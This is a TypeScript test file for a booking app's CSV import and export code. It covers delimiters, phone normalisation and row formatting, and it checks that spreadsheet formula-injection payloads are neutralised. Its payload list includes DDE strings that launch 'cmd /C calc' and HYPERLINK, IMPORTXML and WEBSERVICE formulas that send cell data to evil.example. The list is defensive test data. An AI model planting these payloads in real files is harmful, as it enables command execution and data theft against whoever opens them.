import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { detectDelimiter } from '../../src/core/csv.js';
import { matchColumns, readClientRows } from '../../src/core/client-import.js';
import { BOOKING_COLUMNS, bookingCells, CLIENT_COLUMNS, clientCells, type Cell } from '../../src/modules/data-io/rows.js';
import { csvStream } from '../../src/modules/data-io/writers.js';
import { packRows, unpackRows } from '../../src/modules/data-io/read-upload.js';

/** An export's CSV bytes, as the route streams them. */
async function csvBytes(rows: Cell[][], headers = ['A', 'B', 'C']): Promise<Buffer> {
  const columns = headers.map((header) => ({ header, width: 10 }));
  const stream = csvStream(
    columns,
    (async function* () {
      yield rows;
    })(),
  );
  return Buffer.concat((await stream.toArray()) as Buffer[]);
}
/** csv-parse reads the file back with no relaxing option, a new row at any line break outside quotes (as a spreadsheet does). */
const readBack = (bytes: Buffer): string[][] =>
  parse(bytes, { bom: true, delimiter: ';', record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];

/** The red team's formula payloads: each must reach the spreadsheet as text, never as a formula. */
const FORMULA_PAYLOADS = [
  '=1+2',
  '=HYPERLINK("http://evil.example/?q="&A1,"Открыть")',
  '+7 701 000 00 00',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  '\t=1+2',
  '\r=1+2',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=WEBSERVICE("http://evil.example/")',
  '＝1+2',
  "＋cmd|' /C calc'!A0",
];

describe('CSV export (csv-stringify), read back by csv-parse', () => {
  it('BOM, `;`, CRLF line ends, quotes where needed', async () => {
    const bytes = await csvBytes([
      ['a;b', 'say "hi"', 'line\nbreak'],
      ['Анна', 'x, y', null],
    ]);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe('A;B;C\r\n"a;b";"say ""hi""";"line\nbreak"\r\nАнна;"x, y";\r\n');
  });

  it.each(FORMULA_PAYLOADS)('formula %j goes out behind a quote', async (payload) => {
    const bytes = await csvBytes([[payload, 1, null]]);
    const [, row] = readBack(bytes);
    expect(row).toEqual([`'${payload}`, '1', '']);
  });

  it('numbers stay numbers, a negative one too; text that only looks like one is escaped', async () => {
    expect(readBack(await csvBytes([[-5, '-5', 0]]))[1]).toEqual(['-5', "'-5", '0']);
  });

  it('property: any cells read back as written, formula starts behind a quote', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.array(fc.string({ unit: 'grapheme', maxLength: 20 }), { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 5 }),
        async (rows) => {
          const read = readBack(await csvBytes(rows));
          expect(read.slice(1)).toEqual(
            rows.map((cells) => cells.map((cell) => (/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) ? `'${cell}` : cell))),
          );
        },
      ),
      { numRuns: 200 },
    );
  });
});

describe('CSV import', () => {
  it('detects the separator from the header line, quotes respected', () => {
    expect(detectDelimiter('Имя;Телефон\n')).toBe(';');
    expect(detectDelimiter('Name,Phone\r\na;b,c')).toBe(',');
    expect(detectDelimiter('"Имя, отчество";Телефон\n')).toBe(';');
    expect(detectDelimiter('Name\tPhone\n')).toBe('\t');
    expect(detectDelimiter('Phone\n')).toBe(',');
  });
});

describe('client rows', () => {
  it('finds columns by header in any case and order, first match wins', () => {
    expect(matchColumns(['Комментарий', 'ТЕЛЕФОН', 'имя'])).toEqual({ notes: 0, phone: 1, name: 2 });
    expect(matchColumns(['first_name', 'Phone', 'notes', 'Name'])).toEqual({ name: 0, phone: 1, notes: 2 });
    expect(matchColumns(['Email', 'Дата'])).toEqual({});
  });

  it('normalizes phones, numbers rows as a spreadsheet does and skips repeats inside the file', () => {
    const columns = { name: 0, phone: 1, notes: 2 };
    const read = readClientRows(
      [
        ['Анна', '8 (701) 234-56-78', 'VIP'],
        ['', '', ''],
        ['Берик', '12345', ''],
        ['Анна 2', '+7 701 234 56 78', ''],
        ['', '7012345679', ''],
        ['Вера', '', ''],
        ['Гуля', '7012345670', '  '],
      ],
      columns,
    );
    expect(read.clients).toEqual([
      { row: 2, phone: '77012345678', firstName: 'Анна', notes: 'VIP' },
      { row: 8, phone: '77012345670', firstName: 'Гуля', notes: null },
    ]);
    expect(read.duplicates).toBe(1);
    expect(read.errors).toEqual([
      { row: 4, code: 'phone_invalid', detail: 'Phone is not a valid number' },
      { row: 6, code: 'name_empty', detail: 'Name is empty' },
      { row: 7, code: 'phone_empty', detail: 'Phone is empty' },
    ]);
  });

  it('refuses names over 200 and notes over 2000 characters, and drops NUL characters', () => {
    const read = readClientRows(
      [
        ['x'.repeat(201), '7012345678'],
        ['Ok', '7012345679', 'n'.repeat(2001)],
        ['A\u0000b', '7012345670'],
      ],
      { name: 0, phone: 1, notes: 2 },
    );
    expect(read.errors.map((e) => [e.row, e.code])).toEqual([
      [2, 'name_too_long'],
      [3, 'notes_too_long'],
    ]);
    expect(read.clients[0]?.firstName).toBe('Ab');
  });
});

describe("the worker's answer, packed as strings", () => {
  it('property: any rows read from cells pack and unpack to the same clients', () => {
    const cell = fc.string({ unit: 'grapheme', maxLength: 12 });
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, fc.stringMatching(/^\+?7?70[0-9]{8}$/), cell), { maxLength: 40 }), (table) => {
        const read = readClientRows(table, { name: 0, phone: 1, notes: 2 });
        expect(unpackRows(structuredClone(packRows(read)))).toEqual(read);
      }),
    );
  });

  it('no clients and one client with empty notes come back as they were', () => {
    const none = { clients: [], duplicates: 2, errors: [{ row: 3, code: 'phone_empty' as const, detail: 'Phone is empty' }] };
    expect(unpackRows(packRows(none))).toEqual(none);
    const one = { clients: [{ row: 2, phone: '77010000001', firstName: '', notes: null }], duplicates: 0, errors: [] };
    expect(unpackRows(packRows(one))).toEqual(one);
  });
});

describe('export rows', () => {
  it('a booking row keeps the wall-clock reading as text; an end on the next day names its date', () => {
    const cells = bookingCells({
      id: 'b1',
      status: 'confirmed',
      startAt: '2026-03-29 23:30:00',
      endAt: '2026-03-30 00:30:00',
      priceSnapshot: 5000,
      notes: null,
      serviceName: 'Стрижка',
      masterName: 'Айгуль',
      clientFirstName: 'Алия',
      clientPhone: '77012345678',
    });
    expect(cells).toEqual([
      '2026-03-29',
      '23:30',
      '2026-03-30 00:30',
      'Подтверждена',
      'Стрижка',
      'Айгуль',
      'Алия',
      '77012345678',
      5000,
      null,
      'b1',
      null,
    ]);
    expect(cells).toHaveLength(BOOKING_COLUMNS.length);
  });

  it('a client row: count as a number, the last booking as date and time, none as empty', () => {
    const row = { firstName: 'Дана', phone: '77012345678', notes: 'VIP', bookingsCount: 0, lastBookingAt: null };
    expect(clientCells(row)).toEqual(['Дана', '77012345678', 'VIP', 0, null]);
    expect(clientCells({ ...row, lastBookingAt: '2026-11-24 10:00:00' })[4]).toBe('2026-11-24 10:00');
    expect(CLIENT_COLUMNS.map((column) => column.header)).toEqual(['Имя', 'Телефон', 'Заметки', 'Записей', 'Последняя запись']);
  });
});
